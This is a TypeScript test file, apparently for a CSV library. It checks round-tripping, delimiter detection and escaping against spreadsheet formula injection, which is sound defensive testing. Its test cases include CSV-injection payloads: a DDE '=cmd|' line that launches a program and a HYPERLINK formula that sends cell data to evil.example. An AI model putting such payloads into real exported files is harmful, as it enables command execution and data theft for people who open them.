// Written files are safe in a spreadsheet and are read back unchanged.
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { readCsv } from "../../../src/csv/read/read-csv.ts";
import type { Delimiter } from "../../../src/csv/table.ts";
import { escapeFormula, unescapeFormula } from "../../../src/csv/text/spreadsheet-escapes.ts";
import { stringify } from "../../../src/csv/write/stringify.ts";
import { template } from "../../../src/csv/write/template.ts";

const nasty = fc.constantFrom(
  ..."=+-@＝＋－＠'\",;|\t\r\n \u00A0\uFEFFaé𝒳0",
  "\r\n",
  '""',
  '",',
  "sep=;",
  "\v",
  "\f",
  "\u2028",
);
const cell = fc.array(nasty, { maxLength: 6 }).map((parts) => parts.join(""));
const visible = /[^\s\uFEFF]/;

const rowsOf = (columns: number) =>
  fc.array(
    fc
      .array(cell, { minLength: columns, maxLength: columns })
      .filter((cells) => cells.some((text) => visible.test(text))),
    { minLength: 1, maxLength: 6 },
  );
const rows = fc.integer({ min: 1, max: 4 }).chain(rowsOf);
const delimiter = fc.constantFrom<Delimiter[]>(",", ";", "\t", "|");

describe("round trip", () => {
  test("rows come back unchanged through text and through bytes", async () => {
    await fc.assert(
      fc.asyncProperty(rows, delimiter, fc.boolean(), async (written, separator, bom) => {
        const text = stringify(written, { delimiter: separator, bom });
        for (const input of [text, new TextEncoder().encode(text)]) {
          const result = await readCsv(input, { delimiter: separator, headerRow: null });
          expect(result.ok ? result.table.records.map(({ cells }) => cells) : result.issue).toEqual(written);
        }
      }),
      { numRuns: 500 },
    );
  });

  test("a blank before quotes in a cell stays, also with tabs as delimiter", async () => {
    const written = [
      ["", ' ""'],
      [' "a"', "b"],
    ];
    for (const delimiter of ["\t", ","] as const) {
      const result = await readCsv(stringify(written, { delimiter }), { delimiter, headerRow: null });
      expect(result.ok && result.table.records.map(({ cells }) => cells)).toEqual(written);
    }
  });

  test("apostrophes before every value of a column stay, with a header and without", async () => {
    const apostrophes = fc.constantFrom("'a", "'", "'=1", "''b", "=1", "", "c");
    const column = fc.array(fc.tuple(apostrophes, apostrophes), { minLength: 2, maxLength: 5 });
    await fc.assert(
      fc.asyncProperty(column, fc.constantFrom(1, null), async (values, headerRow) => {
        const written = values.map(([one, other]) => [one, other, "x"]);
        const result = await readCsv(stringify(written), { delimiter: ",", headerRow });
        const { headers, records } = result.ok ? result.table : { headers: [], records: [] };
        const cells = records.map((record) => record.cells);
        expect(headerRow === null ? cells : [headers, ...cells]).toEqual(written);
      }),
      { numRuns: 500 },
    );
  });

  test("the delimiter is detected when read back", async () => {
    const data = fc.record({ name: cell, delimiter });
    await fc.assert(
      fc.asyncProperty(data, async ({ name, delimiter }) => {
        const written = [
          ["user_id", "email", "name"],
          ["1", "a@example.com", name],
        ];
        const result = await readCsv(stringify(written, { delimiter }));
        expect(result.ok && result.table.dialect.delimiter).toBe(delimiter);
        expect(result.ok && result.table.records[0]?.cells).toEqual(written[1]);
      }),
      { numRuns: 300 },
    );
  });

  test("no part is a formula for a spreadsheet that divides at another separator", () => {
    const parts = fc.array(cell, { minLength: 1, maxLength: 4 }).map((cells) => ["x", ...cells]);
    fc.assert(
      fc.property(fc.array(parts, { minLength: 1, maxLength: 4 }), delimiter, delimiter, (written, writer, reader) => {
        const formulas = divide(stringify(written, { delimiter: writer }), reader).filter((part) =>
          isFormula.test(part),
        );
        expect(formulas).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });

  test("an escaped cell is never a formula, and unescaping restores it", () => {
    fc.assert(
      fc.property(cell, (text) => {
        expect(escapeFormula(text)).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/);
        expect(unescapeFormula(escapeFormula(text))).toBe(text);
      }),
    );
  });
});

const isFormula = /^\s*[=+\-@＝＋－＠]/;

// Divides as spreadsheets do: quotes count at the beginning of a cell only, and what follows the closing one is kept.
function divide(text: string, delimiter: string): string[] {
  const cells: string[] = [];
  let rest = text;
  while (rest !== "") {
    const quoted = /^"((?:[^"]|"")*)("|$)/.exec(rest);
    rest = rest.slice(quoted?.[0].length ?? 0);
    const end = [...rest].findIndex((character) => [delimiter, "\r", "\n"].includes(character));
    const plain = [...rest].slice(0, end < 0 ? undefined : end).join("");
    cells.push((quoted?.[1]?.replaceAll('""', '"') ?? "") + plain);
    rest = end < 0 ? "" : rest.slice(plain.length + 1);
  }
  return cells;
}

describe("a written cell", () => {
  const cells: [cell: string, written: string][] = [
    ["plain", "plain"],
    ["a,b", '"a,b"'],
    ["a;b", '"a;b"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\nlines", '"two\nlines"'],
    [" padded ", '" padded "'],
    ["=1+1", "'=1+1"],
    ["+49 12", "'+49 12"],
    ["-5", "'-5"],
    ["@home", "'@home"],
    ["＝1+1", "'＝1+1"],
    ["  =1+1", "'  =1+1"],
    ["\t=1", "\"'\t'=1\""],
    ["\rx", '"\'\rx"'],
    ["\nx", '"\'\nx"'],
    ["\n=1", "\"'\n'=1\""],
    ["\u00A0=1", "'\u00A0=1"],
    ["\u3000＝1", "'\u3000＝1"],
    ["\uFEFF@x", "'\uFEFF@x"],
    ["\t \n-1", "\"'\t \n'-1\""],
    ["x;=cmd|'/C calc'!A0;y", "\"x;'=cmd|'/C calc'!A0;y\""],
    ["x,=1", '"x,\'=1"'],
    ["x\t@SUM(A1)", '"x\t\'@SUM(A1)"'],
    ["x|+1", '"x|\'+1"'],
    ["x\r\n-1", '"x\r\n\'-1"'],
    ["x;;  ＝1", '"x;;\'  ＝1"'],
    ["x;'=1", "\"x;''=1\""],
    ['x;"=1', '"x;\'""=1"'],
    ["=1;=2", "\"'=1;'=2\""],
    ["Smith, Ann; 1-2", '"Smith, Ann; 1-2"'],
    ["a;b=c", '"a;b=c"'],
    ["＋49 12", "'＋49 12"],
    ["－5", "'－5"],
    ["＠home", "'＠home"],
    ["=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""],
    ['=HYPERLINK("https://evil.example?"&A1)', '"\'=HYPERLINK(""https://evil.example?""&A1)"'],
    ["'=1+1", "''=1+1"],
    ["'Ndrangheta", "'Ndrangheta"],
    ["a@example.com", "a@example.com"],
    ["2024-01-10", "2024-01-10"],
    ["00123", "00123"],
  ];
  for (const [text, written] of cells) {
    test(`${JSON.stringify(text)} is written as ${JSON.stringify(written)}`, () => {
      expect(stringify([["x", text]], { bom: false })).toBe(`x,${written}\r\n`);
    });
  }

  test("a single empty cell still makes a line", () => {
    expect(stringify([[""]], { bom: false })).toBe('""\r\n');
  });
});

describe("the template", () => {
  test("is the guide's own example with a byte order mark", () => {
    expect(template()).toBe(
      [
        "\uFEFFuser_id,email,name,registration_date,last_login_date",
        "legacy_1001,user.one@example.com,User One,2024-01-10T09:00:00Z,2026-04-30T18:21:00Z",
        "legacy_1002,user.two@example.com,User Two,2023-11-05,2026-05-01",
        "",
      ].join("\r\n"),
    );
  });

  test("needs no quotes and no apostrophes: it is what stringify writes", async () => {
    const read = await readCsv(template(), { headerRow: null });
    expect(read.ok && stringify(read.table.records.map(({ cells }) => cells))).toBe(template());
  });
});
